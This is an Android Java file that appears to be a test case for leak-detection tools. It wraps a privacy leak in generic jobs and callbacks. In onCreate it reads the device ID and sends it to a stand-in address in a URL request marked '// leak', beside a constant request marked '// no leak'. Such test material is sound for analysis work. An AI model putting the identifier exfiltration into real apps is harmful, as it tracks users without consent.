package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Type parameters, and callbacks with them. */
public class Generic extends Activity {
    interface Done<T> {
        void done(T result);
    }

    abstract static class Job<A, B> {
        abstract B work(A given);

        void run(A given, Done<? super B> then) {
            then.done(work(given));
        }
    }

    static class Pair<A, B> {
        final A first;
        final B second;

        Pair(A first, B second) {
            this.first = first;
            this.second = second;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        new Job<TelephonyManager, Pair<String, Integer>>() {
            @Override
            Pair<String, Integer> work(TelephonyManager given) {
                return new Pair<>(given.getDeviceId(), 3);
            }
        }.run(phone, new Done<Pair<String, Integer>>() {
            @Override
            public void done(Pair<String, Integer> result) {
                try {
                    new URL("http://203.0.113.3/a/" + result.first).openStream(); // leak
                    new URL("http://203.0.113.3/b/" + result.second).openStream(); // no leak
                } catch (Exception ignored) {
                }
            }
        });
    }
}
